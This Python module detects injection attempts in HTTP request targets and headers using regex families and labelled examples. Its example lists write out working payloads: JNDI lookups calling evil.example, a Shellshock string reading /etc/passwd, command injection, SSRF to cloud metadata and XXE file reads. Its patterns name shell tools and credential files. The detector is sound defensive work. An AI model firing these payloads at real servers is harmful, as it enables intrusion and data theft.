"""What an injection looks like in a request target, a user agent or a referer: one expression per family.

Every expression is linear in the length of the text: no unbounded repeat stands next to another one that can match the
same characters. Texts are read in lower case, percent-decoded twice (attackers hide a payload from the first decoder),
with SQL comments and runs of blanks folded.

References: OWASP Testing Guide 4.2, chapter 4.7 (input validation); CVE-2021-44228 (lookups), CVE-2014-6271 (bash),
RFC 9112 section 11.1 (response splitting), OWASP Server Side Request Forgery Prevention.
"""

import re
from functools import cache
from typing import NamedTuple
from urllib.parse import unquote, unquote_plus

__all__ = ["EXAMPLES", "FAMILIES", "HEADER_EXAMPLES", "Payload", "in_header", "in_target", "may_inject"]

FAMILIES = ("sqli", "xss", "traversal", "cmd", "ssti", "jndi", "ssrf", "xxe", "crlf")

_COMMANDS = (
    r"(?:cat|id|ls|pwd|uname|whoami|wget|curl|nc|ncat|bash|sh|ping|sleep|netstat|nslookup|ifconfig|ipconfig|dir|type"
    r"|echo|rm|chmod|python3?|perl|php|ruby|powershell|cmd|tftp|busybox|env|printenv|ps|touch|cp|mv|nid|true|false"
    r"|certutil)(?:\.exe)?(?![\w=:.-])"
)
_INTERNAL = (
    r"(?:169\.254\.169\.254|100\.100\.100\.200|metadata\.google|instance-data|localhost\b|127\.\d|0\.0\.0\.0|\[::|10\.\d"
    r"|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|0x7f|2130706433|[\w.-]{1,60}\.(?:internal|local)\b)"
)
_RETURNS = r"(?:redirect|return|callback|next|continue|origin|referr?er|redir)"
"""Names of parameters in which native apps and log-in pages rightly name a local address (RFC 8252, section 7.3)."""

_SQLI = (
    r"\bunion[\s(]{1,5}(?:all[\s(]{1,5}|distinct\s)?select\b",
    r"[(;,'\"|]\s?select\b[\s('\"@]",
    r"\bselect\s[^;]{1,60}?\sfrom\s[\w.,()`\"]{1,40}\s?(?:--|;|\swhere\s)",
    r"(?:\b(?:and|or|xor|where|having)|\|\||&&)[\s(!]{1,8}(?:not\s)?-?['\"]?\d{1,12}['\"]?\)?\s?(?:=|<|>|!=|like\b|between\b)",
    r"(?:^|[=&?/])[^'\"=&?/]{0,40}['\"]\){0,5}\s(?:and|or|xor|rlike)\s[^'\"]{0,40}?(?:=|\br?like\b|\bnull\b|\()",
    r"['\"][\w%]{0,40}['\"]\s?(?:=|\br?like\b)\s?['\"(]",
    r"\b(?:pg_)?sleep\s?\(|\bbenchmark\s?\(|\b(?:extractvalue|updatexml|load_file|group_concat|randomblob|make_set"
    r"|regexp_substring|crypt_key|generate_series|md5|unhex|fn_xe_file_target_read_file|get_host_address|char"
    r"|chr)\s?\(|\b(?:xp_|utl_|dbms_)\w{3,40}|\bctxsys\.",
    r"\brow\s?\(\d|\belt\s?\(|\bcase\swhen\b|\bnull\s?,\s?null\b|\biif\s?\(|\brlike\s?\(",
    r"\b(?:order|group)\sby\s\d{1,4}\s?(?:--|#|,|;|$)",
    r"\bwaitfor\s(?:delay|time)\b|\bprocedure\sanalyse\b|\binto\s(?:out|dump)file\b",
    r";\s?(?:select|insert|update|delete|drop|create|alter|exec|declare|shutdown|begin|call|if)\b[\s(]",
    r"\binformation_schema\b|\bsys(?:objects|databases|columns|users|tables)\b|\brdb\$|\bsysibm\.|\bpg_(?:catalog|shadow"
    r"|user)\b|\bsqlite_master\b|\bmysql\.(?:db|user)\b|\bmaster\.\.|\bfrom\sdual\b|\bdomain\.(?:domains|tables)\b",
    r"(?:\d|%|^|=)['\"]\)?\)?\)?\s?(?:--|#|;|\|\|)|['\"]\){0,6}\s?(?:--|#)",
    r"\bdrop\s(?:table|database)\s\w|\binsert\sinto\s[^;]{1,60}?\bvalues\s?\(|\bupdate\s[\w.]{1,40}\sset\s\w{1,40}\s?=",
    r"\d['\"]?\){1,6}\s(?:and|or|as|where|order|group|union|having|procedure|rlike)\s",
)
_TAGS = (
    r"(?:script|iframe|i?frameset|object|embed|svg|img|image|body|html|head|style|link|meta|form|input|layer|ilayer|xml"
    r"|base|applet|frame|table|div|bgsound|marquee|video|audio|details|br|xss|isindex|math|textarea|button|noscript"
    r"|template|crosssitescripting|a\shref|a\sstyle|p\sstyle|span\sstyle)"
)
_XSS = (
    rf"<[\s/]{{0,3}}{_TAGS}(?:[\s/>\"'<=:]|$)",
    r"<\s?scr|<\?(?:php|=|\s)|<!--|<!\[cdata",
    r"[\s\"'/<>`;]on(?:error|load|unload|click|dblclick|mouse\w{2,6}|focus\w{0,3}|blur|key\w{2,6}|submit|toggle|pointer\w{2,8}"
    r"|animation\w{2,12}|begin|end|change|input|scroll|wheel|drag\w{0,6}|paste|copy|resize|start|show)\s?=",
    r"(?:java|vb|live|j\s?a\s?v\s?a\s?)script\s?:|\bmocha:|\bdata:text/html",
    r"\bdocument\s?\.\s?(?:cookie|location|domain|write)|\b(?:alert|confirm|prompt|eval)\s?[(`]",
    r"\bexpression[\s/*\d]{0,4}\(|fromcharcode|@import|&\{|\+adw-|\bexpression\d|-moz-binding|\bwrite\(1\)",
)
_TRAVERSAL = (
    r"\.\.;?[/\\]|[/\\]\.\.(?:[/\\;?#&\s]|$)|\.{5,}|(?:/\./?){3}|/{5,}",
    r"0x2e0x2e|\.\.0x[25]|\.\.%[25c]|%c0%ae|%uff0e",
    r"\betc[/\\]?(?:passwd|shadow|hosts|group|issue|sudoers)\b|\b(?:boot|win)\.ini\b|\boot\.ini\b|\bweb-?inf\b",
    r"/proc/(?:self|version|\d)|\bfile:/|\bdev/cmdb|windows[/\\]system32|\bc:[/\\]|\x00|\bphp://|/usr/(?:share|local)/",
)
_CMD = (
    rf"(?:[;|`]|\$\(|&&|&\s)[\s'\"]{{0,3}}(?:/?(?:usr/)?s?bin/)?{_COMMANDS}",
    rf"/?usr/s?bin/\w|/s?bin/{_COMMANDS}|/s?bin/(?:ba|z|k|c|da)?sh\b|\bcmd(?:\.exe)?\s?/c|\bcmd\.exe\b",
    r"\b(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec|exec)\s?\(|\bcall_user_func|\binvokefunction\b"
    r"|=phpinfo\b|\bphpinfo\s?\(|\bgetruntime\b|\bprocessbuilder\b|\bauto_prepend_file\b|\ballow_url_include\b|\bbase64_decode\b",
    r"<!--#(?:exec|include)|\(\)\s?\{|\bping(?:\.exe)?\s-[nc]\s|\bdir\s?c:|['\"`](?:uname|id|whoami)['\"`]",
    r"\b(?:wget|curl)\s.{0,40}?(?:https?://|\d{1,3}\.\d{1,3}\.)|\bpowershell(?:\.exe)?\s|\brm\s-rf?\b|\bchmod\s[0-7+]",
)
_SSTI = (
    r"\{\{[^{}*+(|\[\"']{0,60}(?:[*+(|\[\"'])|\{\{[^{}]{0,20}?(?:__|\bconfig\b|\bself\b)|\{%[^{}%]{0,60}%\}|<%[^<>]{0,60}%>",
    r"[$#*]\{[^{}*+(@#$]{0,60}[*+(@#]|%\{\s?[(#]",
    r"__(?:class|mro|subclasses|globals|builtins|import)__|@java\.lang|\bclass\.module\.classloader|#_memberaccess",
)
_JNDI = (
    r"\bjndi:|\$\{[^${}]{0,30}?(?:jndi|lower:|upper:|env:|sys:|java:|date:|::-|main:|ctx:|base64:|dns:|script:|url:|const:)",
    r"\b(?:ldaps?|rmi|iiop|corba|nis)://",
)
_SSRF = (
    rf"(?:^|[?&])(?![\w.-]{{0,20}}?{_RETURNS})[\w.\[\]-]{{1,40}}=\s?(?:https?:)?//(?:[^/@&\s]{{1,60}}@)?{_INTERNAL}",
    r"=\s?(?:gopher|dict|netdoc|jar|tftp|sftp|ldap):",
    r"=\s?(?:https?|ftp)://[^&=?\s]{1,200}(?:\?{1,3}(?:$|&)|(?:(?<=\.txt)|(?<=\.inc))(?:$|[?&]))",
)
_XXE = (r"<!(?:entity|doctype)\b|\bxi:include\b|\bxinclude\b|\bsystem\s[\"'](?:file|http|ftp|expect|php)",)
_CRLF = (
    r"[\r\n\u560a\u560d]\s{0,2}(?:set-cookie|location|content-(?:type|length|encoding|disposition)|http/\d|x-[\w-]{1,30}"
    r"|host|link|refresh|access-control-[\w-]{1,30}|get\s/|post\s/)\s?[:\s/.]",
    r"\r\n\r\n|[\r\n]<",
)


def _any(*expressions: str) -> re.Pattern[str]:
    return re.compile("|".join(expressions))


@cache
def _in_targets() -> dict[str, re.Pattern[str]]:
    """Compiled when the first target is decoded: it takes a fiftieth of a collector's start."""
    return {
        "sqli": _any(*_SQLI),
        "xss": _any(*_XSS),
        "traversal": _any(*_TRAVERSAL),
        "cmd": _any(*_CMD),
        "ssti": _any(*_SSTI),
        "jndi": _any(*_JNDI),
        "ssrf": _any(*_SSRF),
        "xxe": _any(*_XXE),
        "crlf": _any(*_CRLF),
    }


@cache
def _in_headers() -> dict[str, re.Pattern[str]]:
    """Agents and referers hold semicolons, addresses and `..` for good reasons: only what has none is looked for."""
    return {
        "sqli": _any(*_SQLI[:2], *_SQLI[6:7]),
        "xss": _any(_XSS[0], _XSS[3]),
        "cmd": _any(r"\(\)\s?\{", rf"[;|`]\s?/(?:usr/)?s?bin/{_COMMANDS}"),
        "ssti": _any(*_SSTI),
        "jndi": _any(*_JNDI),
    }


_GATE = re.compile(r"[%'\"<>;|$(){}`\\:]").search
_GATE_PLUS = re.compile(r"[+=](?:or|and|union|order|having|select|dir)\+").search
_GATE_WORDS = (
    "..", "/.", "//", "/*", "_schema", "inf/", "etc/", "usr/", "bin/", "phpinfo", "from+dual", "invokefunction", ".ini",
)  # fmt: skip
_HEADER_GATE = re.compile(r"\$\{|%|<|\(\)|union|select|\{\{|jndi|sleep|://[^/]{0,40}@|`").search
_UNICODE = re.compile(r"%u([0-9a-f]{4})")
_ESCAPED = re.compile(r"\\x([0-9a-f]{2})")
_COMMENT = re.compile(r"/\*[^*]{0,40}\*/|/\*!\d{0,6}")
_BLANKS = re.compile(r"[^\S\r\n]+")
_LONG = 200
_LOOKED_AT = 1_200
"""Characters of a text that are looked at, from both ends: a long line must not buy the attacker much of our time."""


class Payload(NamedTuple):
    """One injection attempt in a text."""

    family: str
    text: str
    """The part that shows it."""


def may_inject(target: str) -> bool:
    """Whether a raw request target is worth decoding: a cheap scan that ordinary targets do not pass.

    >>> may_inject("/api/items/7?page=2"), may_inject("/api/items/7'"), may_inject("/f?a=information_schema.tables")
    (False, True, True)
    """
    if _GATE(target) is not None or len(target) > _LONG:
        return True
    lower = target.lower()
    for word in _GATE_WORDS:
        if word in lower:
            return True
    return "+" in lower and _GATE_PLUS(lower) is not None


def in_target(target: str) -> tuple[Payload, ...]:
    """The payloads of a request target, at most one per family.

    >>> [found.family for found in in_target("/item?id=1%27%20OR%201%3D1--")]
    ['sqli']
    """
    return _found(_decoded(target), _in_targets()) if may_inject(target) else ()


def in_header(value: str) -> tuple[Payload, ...]:
    """The payloads of a user agent or referer, at most one per family."""
    return _found(_decoded(value), _in_headers()) if _HEADER_GATE(value.lower()) is not None else ()


def _found(text: str, families: dict[str, re.Pattern[str]]) -> tuple[Payload, ...]:
    hits = ((family, expression.search(text)) for family, expression in families.items())
    return tuple(Payload(family, hit.group()[:80]) for family, hit in hits if hit is not None)


def _decoded(text: str) -> str:
    path, mark, query = text.partition("?")
    once = unquote(path) + mark + unquote_plus(query)
    if len(once) > _LOOKED_AT:
        once = once[: _LOOKED_AT - _LOOKED_AT // 3] + " " + once[-_LOOKED_AT // 3 :]
    twice = unquote(_UNICODE.sub(_char, once.lower()))
    return _BLANKS.sub(" ", _COMMENT.sub(" ", _ESCAPED.sub(_char, twice.lower())))


def _char(match: re.Match[str]) -> str:
    return chr(int(match.group(1), 16))


EXAMPLES: tuple[tuple[str, str | None], ...] = (
    ("/item?id=1%27%20OR%20%271%27=%271", "sqli"),
    ("/item?id=-1+UNION+ALL+SELECT+1,2,user()", "sqli"),
    ("/item?id=1/**/union/**/select/**/null", "sqli"),
    ("/item?id=1%2527%2520and%2520sleep(5)--", "sqli"),
    ("/item?id=1;waitfor%20delay%20'0:0:5'", "sqli"),
    ("/f?a=information_schema.tables", "sqli"),
    ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
    ("/p?name=%22%20onmouseover=%22prompt(1)", "xss"),
    ("/p?u=javascript:alert(1)", "xss"),
    ("/download?file=../../../../etc/passwd", "traversal"),
    ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "traversal"),
    ("/static/%252e%252e%252fsecret", "traversal"),
    ("/ping?host=127.0.0.1;cat%20/etc/hosts", "cmd"),
    ("/ping?host=%60id%60", "cmd"),
    ("/x?f=call_user_func_array&vars[0]=phpinfo", "cmd"),
    ("/hello?name=%7B%7B7*7%7D%7D", "ssti"),
    ("/hello?name=${7*7}", "ssti"),
    ("/?x=$%7Bjndi:ldap://evil.example/a%7D", "jndi"),
    ("/?x=${${lower:j}ndi:rmi://evil.example/a}", "jndi"),
    ("/fetch?url=http://169.254.169.254/latest/meta-data/", "ssrf"),
    ("/fetch?url=gopher://10.0.0.1:6379/_INFO", "ssrf"),
    ("/?xml=%3C!DOCTYPE%20a%20[%3C!ENTITY%20b%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E", "xxe"),
    ("/go?to=/%0d%0aSet-Cookie:%20a=b", "crlf"),
    ("/api/items/7?page=2", None),
    ("/search?q=o%27neill+and+sons", None),
    ("/search?q=%22war+and+peace%22", None),
    ("/search?q=select+a+gift+from+the+store", None),
    ("/search?q=c%2B%2B+or+java%3F", None),
    ("/search?q=drop+shipping+for+beginners", None),
    ("/search?q=union+street+select+committee", None),
    ("/odata/Orders(12)?$filter=Price%20gt%2020%20and%20Name%20eq%20'Milk'", None),
    ("/rest/search?jql=project%20%3D%20%22ABC%22%20AND%20status%20%3D%20%22Open%22%20ORDER%20BY%20created", None),
    ("/drive/files?q=%27root%27%20in%20parents%20and%20trashed%20%3D%20false", None),
    ("/odata/Items?$select=Id,Name&$orderby=Name", None),
    ("/authorize?redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Fcallback&state=%7B%22a%22%3A1%7D", None),
    ("/share?url=https%3A%2F%2Fexample.com%2Fpost%3Fid%3D7", None),
    ("/files/report..final.pdf", None),
    ("/graphql?query=%7Buser(id:7)%7Bname%20email%7D%7D", None),
    ("/users/{{userId}}", None),
    ("/users/${userId}", None),
    ("/list?filter[status]=open&sort=-id;asc", None),
    ("/map;id=7;type=road", None),
    ("/items?sort&id", None),
    ("/search?q=50%25+off", None),
    ("/wiki/R%26B_(music)", None),
)
"""Request targets, each with the family that it must show, or None."""

HEADER_EXAMPLES: tuple[tuple[str, str | None], ...] = (
    ("${jndi:ldap://evil.example/a}", "jndi"),
    ("${${lower:j}${lower:n}di:dns://evil.example}", "jndi"),
    ("() { :; }; /bin/cat /etc/passwd", "cmd"),
    ("Mozilla/5.0' union select 1,2--", "sqli"),
    ("<script>alert(1)</script>", "xss"),
    ("Mozilla/5.0 (Linux; U; Android 4.0.3; id; GT-S5360) AppleWebKit/534.30", None),
    ("https://www.google.com/search?q=o%27neill+and+sons&ie=UTF-8", None),
    ("https://app.example.com/../orders?next=http://localhost/", None),
    ("Swiftfin%20tvOS/70 CFNetwork/1490.0.4", None),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", None),
)
"""User agents and referers, each with the family that it must show, or None."""
